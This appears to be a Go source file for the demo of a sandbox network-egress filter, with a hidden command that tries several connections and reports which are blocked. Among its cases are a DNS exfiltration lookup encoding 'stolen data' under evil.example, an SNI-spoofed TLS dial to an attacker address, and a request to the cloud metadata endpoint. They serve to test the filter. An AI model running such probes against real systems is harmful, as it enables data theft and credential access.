//go:build linux && !client

package main

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"time"

	"github.com/quic-go/quic-go/http3"
	"github.com/spf13/cobra"
)

// attempt is one thing that the program in the demo tried.
type attempt struct {
	What       string `json:"what"`
	Carried    bool   `json:"carried"`
	Result     string `json:"result"`
	AsExpected bool   `json:"as_expected"`
}

// newDemoProgramCommand is the program that runs in the demo's sandbox. It is an ordinary one: it knows nothing of weir.
func newDemoProgramCommand() *cobra.Command {
	return &cobra.Command{Use: "program", Hidden: true, Args: wants(), RunE: func(cmd *cobra.Command, _ []string) error {
		enc := json.NewEncoder(cmd.OutOrStdout())
		for _, a := range []struct {
			what  string
			works bool
			try   func(ctx context.Context) (string, error)
		}{
			{"GET https://shop.example/", true, func(ctx context.Context) (string, error) {
				return get(ctx, http.DefaultClient, "https://shop.example/")
			}},
			{"GET https://shop.example/ over QUIC (HTTP/3)", true, getHTTP3},
			{"GET http://api.example/", true, func(ctx context.Context) (string, error) { return get(ctx, http.DefaultClient, "http://api.example/") }},
			{"GET https://evil.example/", false, func(ctx context.Context) (string, error) {
				return get(ctx, http.DefaultClient, "https://evil.example/")
			}},
			{"look up c3RvbGVuIGRhdGE.evil.example", false, lookUp},
			{"TLS to 203.0.113.66 that claims to be shop.example", false, lie},
			{"GET http://169.254.169.254/ (cloud metadata)", false, func(ctx context.Context) (string, error) {
				return get(ctx, http.DefaultClient, "http://169.254.169.254/")
			}},
		} {
			ctx, cancel := context.WithTimeout(cmd.Context(), 10*time.Second)
			result, err := a.try(ctx)
			cancel()
			if err != nil {
				result = rootCause(err)
			}
			enc.Encode(attempt{What: a.what, Carried: err == nil, Result: result, AsExpected: (err == nil) == a.works})
		}
		return nil
	}}
}

func get(ctx context.Context, c *http.Client, url string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, "GET", url, nil)
	if err != nil {
		return "", err
	}
	resp, err := c.Do(req)
	if err != nil {
		return "", err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(io.LimitReader(resp.Body, 200))
	return fmt.Sprintf("%s, %s", resp.Status, body), err
}

func getHTTP3(ctx context.Context) (string, error) {
	t := &http3.Transport{}
	defer t.Close()
	return get(ctx, &http.Client{Transport: t}, "https://shop.example/")
}

func lookUp(ctx context.Context) (string, error) {
	addrs, err := net.DefaultResolver.LookupHost(ctx, "c3RvbGVuIGRhdGE.evil.example")
	return fmt.Sprint(addrs), err
}

// lie goes to an address that is not shop.example's and says that it is.
func lie(ctx context.Context) (string, error) {
	d := tls.Dialer{Config: &tls.Config{ServerName: "shop.example"}}
	c, err := d.DialContext(ctx, "tcp", net.JoinHostPort(evilAddr.String(), "443"))
	if err != nil {
		return "", err
	}
	return "connected", c.Close()
}

// rootCause is the innermost error: what the kernel or the resolver said.
func rootCause(err error) string {
	for {
		u, ok := err.(interface{ Unwrap() error })
		if !ok || u.Unwrap() == nil {
			return err.Error()
		}
		err = u.Unwrap()
	}
}
